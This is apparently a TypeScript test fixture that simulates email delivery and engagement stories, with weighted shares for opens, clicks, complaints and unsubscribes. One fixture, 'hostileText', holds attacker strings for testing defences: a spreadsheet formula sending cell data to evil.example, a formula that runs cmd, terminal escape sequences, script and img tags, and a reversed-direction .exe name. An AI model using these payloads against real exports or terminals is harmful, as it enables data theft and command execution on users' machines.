import { senders, subject } from '../profiles/senders';
import type { LifeCycle } from '../messages/timeline';
import { send } from '../steps/accept';
import { deliver } from '../steps/deliver';
import { follow, open, prefetch, read, scan } from '../steps/engage';
import { changePreferences, complain, complainBySuppression, unsubscribe } from '../steps/feedback';
import { inOrder, type Story } from './scenario';

/** Sends the message and delivers it to every recipient. */
function arrive(cycle: LifeCycle): void {
  send(cycle);
  for (const recipient of cycle.message.recipients) deliver(cycle, recipient);
}

/** Some of several recipients open and click. The records do not identify them. */
function readBySome(cycle: LifeCycle): void {
  const { recipients } = cycle.message;
  arrive(cycle);
  for (const recipient of recipients.slice(0, 3)) read(cycle, recipient);
  follow(cycle, recipients[1]);
}

/** Fields that AWS might add to a record and to its mail block. */
const newFields = { eventVersion: 1.1, insights: { isp: 'Example', tags: ['a', 'b'], nested: [] } };
const newMailFields = { tenantId: 'tenant-0042', spamScore: 0.1, delegate: null };

function arriveWithNewFields(cycle: LifeCycle): void {
  arrive(cycle);
  for (const planned of cycle.planned) {
    const { event } = planned;
    planned.event = { ...event, ...newFields, mail: { ...event.mail, ...newMailFields } };
  }
}

const arriveAndRead = inOrder(arrive, read);

/** Texts of an attacker: terminal sequences, spreadsheet formulas, markup, text in the reverse direction. */
const hostileText = {
  subject: '=HYPERLINK("https://evil.example/?c="&A1,"Refund")\u001b[2J\u001b]0;owned\u0007 \u202egpj.exe',
  smtpResponse:
    '250 2.0.0 OK\r\n\u001b[31mqueued\u001b[0m\u0000 <script>alert(1)</script>\u2028"quoted" \\back',
  userAgent:
    "@SUM(1+1)*cmd|' /C calc'!A0 \u001b]8;;https://evil.example\u0007Mozilla\u001b]8;;\u0007 <img src=x>",
};

/** The stories of messages that reach their mailbox. The first one is by far the most frequent. */
const readingStories: readonly Story[] = [
  { share: 594, happen: arrive },
  // A machine opens immediately. Often no person reads the message later.
  { share: 55, happen: inOrder(arrive, prefetch) },
  { share: 28, happen: inOrder(arrive, prefetch, (cycle) => read(cycle.passHalfDays(1))) },
  { share: 46, happen: arriveAndRead },
  // Late: one to three half days, then weeks.
  {
    share: 40,
    happen: inOrder(arrive, (cycle) => read(cycle.passHalfDays(cycle.random.integer(1, 3)))),
  },
  { share: 3, happen: inOrder(arrive, (cycle) => read(cycle.passWeeks()), follow) },
  // The same person several times.
  {
    share: 38,
    happen: (cycle) => {
      arrive(cycle);
      read(cycle);
      read(cycle);
      if (cycle.random.onceIn(2)) read(cycle);
      read(cycle.passHalfDays(cycle.random.integer(1, 2)));
    },
  },
  {
    share: 40,
    happen: (cycle) => {
      arrive(cycle);
      read(cycle);
      follow(cycle);
      if (cycle.random.onceIn(2)) follow(cycle);
    },
  },
  { share: 12, message: { sender: senders.marketing }, happen: inOrder(arrive, scan) },
  { share: 12, message: { recipientCount: 2 }, happen: readBySome },
  { share: 6, message: { recipientCount: 3 }, happen: readBySome },
  { share: 3, message: { recipientCount: 5 }, happen: arrive },
  // At least one message of each sender, even in a small archive.
  { share: 0, message: { sender: senders.transactional }, happen: arriveAndRead },
  { share: 0, message: { sender: senders.alerts }, happen: arriveAndRead },
  { share: 0, message: { sender: senders.marketing }, happen: arriveAndRead },
  { share: 1, happen: arriveWithNewFields },
  {
    share: 1,
    message: { subject: subject(hostileText.subject), sender: senders.marketing },
    happen: (cycle) => {
      send(cycle);
      deliver(cycle, cycle.message.recipients[0], hostileText.smtpResponse);
      cycle.pass(1_000, 60_000);
      open(cycle, { ipAddress: '192.0.2.66', userAgent: hostileText.userAgent }, 'Unlikely');
    },
  },
];

/** The stories of recipients who react to the mail. */
const feedbackStories: readonly Story[] = [
  {
    share: 3,
    happen: (cycle) => {
      arrive(cycle);
      read(cycle);
      complain(cycle.passHalfDays(cycle.random.integer(0, 1)), 'abuse');
    },
  },
  // A `not-spam` report, the opposite of a complaint.
  { share: 1, happen: inOrder(arrive, (cycle) => complain(cycle, 'not-spam')) },
  { share: 1, happen: inOrder(send, complainBySuppression) },
  { share: 0, message: { recipientCount: 2 }, happen: inOrder(arrive, (cycle) => complain(cycle, 'other')) },
  { share: 5, message: { sender: senders.marketing }, happen: inOrder(arrive, read, unsubscribe) },
  { share: 3, message: { sender: senders.marketing }, happen: inOrder(arrive, changePreferences) },
];

export { feedbackStories, readingStories };
